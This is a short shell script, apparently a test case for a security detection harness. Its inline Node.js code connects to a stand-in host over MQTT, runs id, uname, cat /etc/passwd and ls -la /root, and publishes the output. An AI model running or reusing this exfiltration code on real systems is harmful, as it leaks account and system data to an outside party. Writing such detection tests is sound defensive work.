#!/bin/sh
. /opt/case/case.sh

node -e '
const { execSync } = require("child_process");
const c = require("net").connect(9000, "203.0.113.10", () => {
    const text = (s) => Buffer.concat([Buffer.from([0, s.length]), Buffer.from(s)]);
    const packet = (k, ...b) => { const d = Buffer.concat(b); return Buffer.concat([Buffer.from([k, d.length & 127 | (d.length > 127 ? 128 : 0), ...(d.length > 127 ? [d.length >> 7] : [])]), d]); };
    c.write(packet(0x10, text("MQTT"), Buffer.from([4, 2, 0, 60]), text("sensor-17")));
    c.write(packet(0x82, Buffer.from([0, 1]), text("c/17/in"), Buffer.from([0])));
    for (const cmd of ["id", "uname -a", "cat /etc/passwd", "ls -la /root"]) c.write(packet(0x30, text("c/17/out"), execSync(cmd).subarray(0, 2000)));
    setTimeout(() => process.exit(), 500);
});'
took_place
